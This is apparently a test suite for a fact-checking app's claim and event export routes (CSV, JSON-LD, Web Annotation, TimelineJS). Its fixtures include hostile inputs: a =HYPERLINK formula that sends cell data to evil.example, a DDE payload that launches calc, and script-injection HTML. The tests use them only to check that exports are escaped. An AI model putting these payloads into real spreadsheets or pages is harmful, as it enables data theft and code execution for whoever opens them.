import fs from "node:fs";
import path from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import jsonld from "jsonld";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as getArticleText } from "@/app/api/articles/[id]/text/route";
import { GET as exportClaimsRoute } from "@/app/api/claims/export/route";
import { GET as exportEventsRoute } from "@/app/api/events/export/route";
import { ClaimFilter } from "@/server/claims/claim-scope-sql";
import { getDb } from "@/server/db";
import { claimExportBatches } from "@/server/exports/claim-export-batches";
import { CLAIM_CSV_COLUMNS } from "@/server/exports/export-claims";
import { EVENT_CSV_COLUMNS } from "@/server/exports/export-events";
import { setVerdict } from "@/server/verdicts/set-verdict";
import { uid } from "./factories";
import { ingestStory } from "./view-factories";

const db = getDb();
afterAll(async () => {
  await db.$disconnect();
});

// The standard contexts, served from local stand-ins: tests have no network (see the README there).
const CONTEXTS: Record<string, string> = {
  "https://schema.org": "schema-org.jsonld",
  "http://www.w3.org/ns/anno.jsonld": "anno.jsonld",
};
const FIXTURES = path.resolve(import.meta.dirname, "..", "fixtures", "jsonld");
const documentLoader = async (url: string) => {
  const file = CONTEXTS[url];
  if (!file) throw new Error(`No network in tests: ${url}`);
  return { contextUrl: undefined, documentUrl: url, document: JSON.parse(fs.readFileSync(path.join(FIXTURES, file), "utf8")) };
};
type Expanded = Record<string, unknown[]> & { "@type"?: string[]; "@id"?: string };
const expand = async (doc: unknown) => (await jsonld.expand(doc as object, { documentLoader })) as Expanded[];

const SCHEMA = "http://schema.org/";
const OA = "http://www.w3.org/ns/oa#";

const tag = uid();
const wire = `Wire ${tag}`;
const speaker = `Mayor ${tag}`;
const payloads = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+1 555 0100 was the number the caller gave.",
  minus: "-2+3 is what the sign said.",
  tab: "\tTabbed claim starts with a tab.",
  html: '</script><script>alert("x")</script><b>bold</b> & more',
};
let articleId: string;
let secondId: string;

beforeAll(async () => {
  const story = await ingestStory({
    outlet: `Paper ${tag}`,
    publishedAt: "2026-03-05",
    entities: [
      { name: wire, kind: "OUTLET" },
      { name: speaker, kind: "PERSON" },
    ],
    claims: [
      // An emoji is two UTF-16 units but one code point: positions after it differ.
      { text: "The 🚢 ferry sank near the pier.", kind: "NAMED_PERSON", source: speaker, quote: "DIRECT", via: [wire] },
      { text: payloads.formula, kind: "UNATTRIBUTED" },
      { text: payloads.at, kind: "ANONYMOUS", source: "=cmd|' /C calc'!A0" },
      { text: payloads.plus, kind: "UNATTRIBUTED" },
      { text: payloads.minus, kind: "UNATTRIBUTED" },
      { text: payloads.tab, kind: "UNATTRIBUTED" },
      { text: payloads.html, kind: "ORGANIZATION", source: "<img src=x onerror=alert(1)>" },
    ],
    events: [
      { title: `Ferry sinks ${tag}`, date: "2026-03-02", precision: "DAY", trigger: "sink", evidence: [0] },
      { title: `<b>Storm</b> ${tag}`, date: "2026-03", precision: "MONTH", trigger: "storm", evidence: [3] },
      { title: `Harbour rebuilt ${tag}`, date: "2025", precision: "YEAR", trigger: "rebuild", evidence: [4] },
      { title: `Undated inquiry ${tag}`, date: null, precision: null, trigger: "inquire", evidence: [5] },
    ],
  });
  articleId = story.articleId;
  const second = await ingestStory({
    outlet: `Other Paper ${tag}`,
    publishedAt: "2026-03-06",
    entities: [{ name: speaker, kind: "PERSON" }],
    claims: [{ text: "The ferry 🚢 sank, the mayor said.", kind: "NAMED_PERSON", source: speaker }],
  });
  secondId = second.articleId;
  const first = await db.claim.findFirstOrThrow({ where: { articleId, start: { gte: 0 } }, orderBy: { start: "asc" } });
  await setVerdict(
    { id: first.id, rating: "FALSE", explanation: "The port log shows the ferry docked safely.", evidence: [{ href: "https://port.example.org/log", label: "Port log" }, { href: `/articles/${secondId}` }] },
    { actor: "fact checker" },
  );
});

const get = (handler: (req: Request) => Promise<Response>, url: string) => handler(new Request(`http://ledger.test${url}`));
const claimsOf = (format: string, more = "") => get(exportClaimsRoute, `/api/claims/export?format=${format}&review=all&article=${articleId}${more}`);

describe("claim exports", () => {
  it("CSV: one row per claim with the view's columns, streamed as an attachment, and formula payloads escaped", async () => {
    const res = await claimsOf("csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="claims-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A byte-order mark, so that Excel reads the file as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<(typeof CLAIM_CSV_COLUMNS)[number], string>[];
    expect(Object.keys(rows[0]!)).toEqual([...CLAIM_CSV_COLUMNS]);
    expect(rows).toHaveLength(7);
    const byClaim = (start: string) => rows.find((r) => r.claim.replace(/^'/, "").startsWith(start))!;
    const ferry = byClaim("The 🚢 ferry");
    expect(ferry).toMatchObject({ source: speaker, "source kind": "Named person", chain: `Article → ${wire} → ${speaker}`, "quote type": "direct", outlet: `Paper ${tag}`, date: "2026-03-05", verdict: "False", reviewer: "fact checker" });
    expect(ferry["claim page"]).toMatch(/^http:\/\/ledger\.test\/claims\//);
    // Every cell a spreadsheet would run as a formula is prefixed with ' and otherwise unchanged.
    expect(byClaim("=HYPERLINK").claim).toBe(`'${payloads.formula}`);
    expect(byClaim("@SUM").claim).toBe(`'${payloads.at}`);
    expect(byClaim("@SUM").source).toBe("'=cmd|' /C calc'!A0");
    expect(byClaim("+1 555").claim).toBe(`'${payloads.plus}`);
    expect(byClaim("-2+3").claim).toBe(`'${payloads.minus}`);
    expect(rows.find((r) => r.claim.includes("Tabbed"))!.claim).toBe(`'${payloads.tab}`);
    // Hostile HTML is just text in a CSV.
    expect(byClaim("</script>").claim).toBe(payloads.html);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("JSON-LD: parses, expands with a JSON-LD processor to schema.org Claims, and a reviewed claim has its ClaimReview", async () => {
    const res = await claimsOf("jsonld");
    expect(res.headers.get("content-type")).toBe("application/ld+json; charset=utf-8");
    const raw = await res.text();
    // Safe to paste inside <script type="application/ld+json">.
    expect(raw).not.toContain("</script>");
    const doc = JSON.parse(raw) as { "@context": string; "@graph": Record<string, unknown>[] };
    expect(doc["@context"]).toBe("https://schema.org");
    const nodes = await expand(doc);
    const claims = nodes.filter((n) => n["@type"]?.includes(`${SCHEMA}Claim`));
    const reviews = nodes.filter((n) => n["@type"]?.includes(`${SCHEMA}ClaimReview`));
    expect(claims).toHaveLength(7);
    expect(reviews).toHaveLength(1);
    for (const c of claims) {
      for (const p of ["appearance", "author", "datePublished", "text"]) expect(c[`${SCHEMA}${p}`], p).toBeDefined();
      const appearance = c[`${SCHEMA}appearance`]![0] as Expanded;
      expect(appearance["@type"]).toEqual([`${SCHEMA}NewsArticle`]);
    }
    const review = reviews[0]!;
    const rating = review[`${SCHEMA}reviewRating`]![0] as Expanded;
    expect(rating["@type"]).toEqual([`${SCHEMA}Rating`]);
    expect(rating[`${SCHEMA}ratingValue`]).toEqual([{ "@value": 1 }]);
    expect(rating[`${SCHEMA}alternateName`]).toEqual([{ "@value": "False" }]);
    expect(review[`${SCHEMA}claimReviewed`]).toEqual([{ "@value": "The 🚢 ferry sank near the pier." }]);
    const reviewed = (review[`${SCHEMA}itemReviewed`]![0] as Expanded)["@id"];
    expect(claims.map((c) => c["@id"])).toContain(reviewed);
    const citations = (review[`${SCHEMA}citation`] as Expanded[]).map((x) => (x[`${SCHEMA}url`]![0] as { "@value": string })["@value"]);
    expect(citations).toEqual(["https://port.example.org/log", `http://ledger.test/articles/${secondId}`]);
    // Hostile text round-trips as the same string.
    const html = claims.find((c) => (c[`${SCHEMA}text`]![0] as { "@value": string })["@value"].startsWith("</script>"))!;
    expect(html[`${SCHEMA}text`]).toEqual([{ "@value": payloads.html }]);
  });

  it("Web Annotation: expands to oa:Annotations whose position and quote selectors re-find exactly the claim text in the stored body", async () => {
    const res = await claimsOf("webannotation");
    expect(res.headers.get("content-type")).toBe('application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"; charset=utf-8');
    const doc = JSON.parse(await res.text()) as {
      type: string;
      total: number;
      first: { items: { type: string; target: { source: string; selector: Record<string, unknown>[] }; body: { purpose: string; value: string }[] }[] };
    };
    expect(doc).toMatchObject({ type: "AnnotationCollection", total: 7 });
    const items = doc.first.items;
    expect(items).toHaveLength(7);
    const expanded = await expand(doc);
    const collection = expanded[0]!;
    expect(collection["@type"]).toEqual(["https://www.w3.org/ns/activitystreams#OrderedCollection"]);
    const page = collection["https://www.w3.org/ns/activitystreams#first"]![0] as Expanded;
    const annotations = (page["https://www.w3.org/ns/activitystreams#items"]![0] as { "@list": Expanded[] })["@list"];
    expect(annotations).toHaveLength(7);
    for (const a of annotations) {
      expect(a["@type"]).toEqual([`${OA}Annotation`]);
      const target = a[`${OA}hasTarget`]![0] as Expanded;
      const types = (target[`${OA}hasSelector`] as Expanded[]).map((s) => s["@type"]![0]);
      expect(types).toEqual([`${OA}TextQuoteSelector`, `${OA}TextPositionSelector`]);
    }

    const claims = await db.claim.findMany({ where: { articleId }, select: { text: true } });
    const texts = new Set(claims.map((c) => c.text));
    for (const item of items) {
      // The target is the article's stored text, served by the ledger.
      const url = new URL(item.target.source);
      const id = url.pathname.split("/")[3]!;
      const textRes = await getArticleText(new Request(url), { params: Promise.resolve({ id }) });
      expect(textRes.headers.get("content-type")).toBe("text/plain; charset=utf-8");
      const body = await textRes.text();
      const points = Array.from(body);
      const [quote, position] = item.target.selector as [{ exact: string; prefix: string; suffix: string }, { start: number; end: number }];
      // Positions count code points, as the Web Annotation model says.
      expect(points.slice(position.start, position.end).join("")).toBe(quote.exact);
      expect(texts.has(quote.exact)).toBe(true);
      expect(points.slice(position.start - Array.from(quote.prefix).length, position.start).join("")).toBe(quote.prefix);
      expect(points.slice(position.end, position.end + Array.from(quote.suffix).length).join("")).toBe(quote.suffix);
      expect(body.indexOf(quote.prefix + quote.exact + quote.suffix)).toBeGreaterThanOrEqual(0);
    }
    // After the emoji the code-point offset is one less than the UTF-16 one.
    const ferry = await db.claim.findFirstOrThrow({ where: { articleId, text: { startsWith: "The 🚢" } } });
    const next = await db.claim.findFirstOrThrow({ where: { articleId, start: { gt: ferry.start } }, orderBy: { start: "asc" } });
    const nextItem = items.find((i) => (i.target.selector[0] as { exact: string }).exact === next.text)!;
    expect((nextItem.target.selector[1] as { start: number }).start).toBe(next.start - 1);
    const assessed = items.find((i) => i.body.some((b) => b.purpose === "assessing"))!;
    expect(assessed.body.find((b) => b.purpose === "assessing")!.value).toBe("False: The port log shows the ferry docked safely.");
  });

  it("takes the view's filters, refuses bad ones with a 422, and reads in keyset batches without losing or repeating a claim", async () => {
    const unreviewed = parseCsv(await (await get(exportClaimsRoute, `/api/claims/export?format=csv&article=${articleId}`)).text(), { bom: true, columns: true });
    expect(unreviewed).toHaveLength(6);
    const reviewed = parseCsv(await (await claimsOf("csv", "&rating=FALSE")).text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(reviewed.map((r) => r.verdict)).toEqual(["False"]);
    const bad = await get(exportClaimsRoute, "/api/claims/export?format=xml&chain=maybe");
    expect(bad.status).toBe(422);
    expect(((await bad.json()) as { error: { issues: { path: string }[] } }).error.issues.map((i) => i.path).sort()).toEqual(["chain", "format"]);

    // One known article, so the test reads the same 7 claims whatever else the database holds.
    const all = ClaimFilter.parse({ review: "all", article: articleId });
    const whole: string[] = [];
    for await (const b of claimExportBatches(all, 100_000)) whole.push(...b.map((c) => c.id));
    expect(whole).toHaveLength(7);
    const paged: string[] = [];
    for await (const b of claimExportBatches(all, 3)) {
      expect(b.length).toBeLessThanOrEqual(3);
      paged.push(...b.map((c) => c.id));
    }
    expect(paged).toEqual(whole);
    expect(new Set(paged).size).toBe(paged.length);
  });
});

describe("event exports", () => {
  const eventsOf = (format: string) => get(exportEventsRoute, `/api/events/export?format=${format}&q=${tag}`);

  it("TimelineJS: dated events with start dates only as precise as the event, headline and text, the kind as group, HTML escaped", async () => {
    const res = await eventsOf("timelinejs");
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const doc = JSON.parse(await res.text()) as { title: { text: { headline: string; text: string } }; events: { unique_id: string; start_date: Record<string, number>; text: { headline: string; text: string }; group: string }[] };
    expect(doc.title.text.text).toMatch(/^<p>3 dated events/);
    const byTitle = Object.fromEntries(doc.events.map((e) => [e.text.headline, e]));
    expect(Object.keys(byTitle).sort()).toEqual([`&lt;b&gt;Storm&lt;/b&gt; ${tag}`, `Ferry sinks ${tag}`, `Harbour rebuilt ${tag}`].sort());
    expect(byTitle[`Ferry sinks ${tag}`]!.start_date).toEqual({ year: 2026, month: 3, day: 2 });
    expect(byTitle[`&lt;b&gt;Storm&lt;/b&gt; ${tag}`]!.start_date).toEqual({ year: 2026, month: 3 });
    expect(byTitle[`Harbour rebuilt ${tag}`]!.start_date).toEqual({ year: 2025 });
    // In date order, each with its kind as the group and the evidence in the text.
    expect(doc.events.map((e) => e.start_date.year)).toEqual([2025, 2026, 2026]);
    const ferry = byTitle[`Ferry sinks ${tag}`]!;
    expect(ferry.group).toBe("Sink");
    expect(ferry.text.text).toContain(`Paper ${tag}`);
    expect(ferry.text.text).toContain("1 passage of evidence");
    expect(ferry.unique_id).toMatch(/^event-/);
  });

  it("CSV: one row per event (undated last) with date, precision, title, place, participants, outlets and evidence count", async () => {
    const rows = parseCsv(await (await eventsOf("csv")).text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...EVENT_CSV_COLUMNS]);
    expect(rows.map((r) => [r.date, r.precision])).toEqual([
      ["2025", "year"],
      ["2026-03", "month"],
      ["2026-03-02", "day"],
      ["", "undated"],
    ]);
    expect(rows[2]).toMatchObject({ title: `Ferry sinks ${tag}`, outlets: `Paper ${tag}`, "outlet count": "1", "evidence count": "1" });
    expect((await get(exportEventsRoute, "/api/events/export?format=pdf")).status).toBe(422);
  });
});
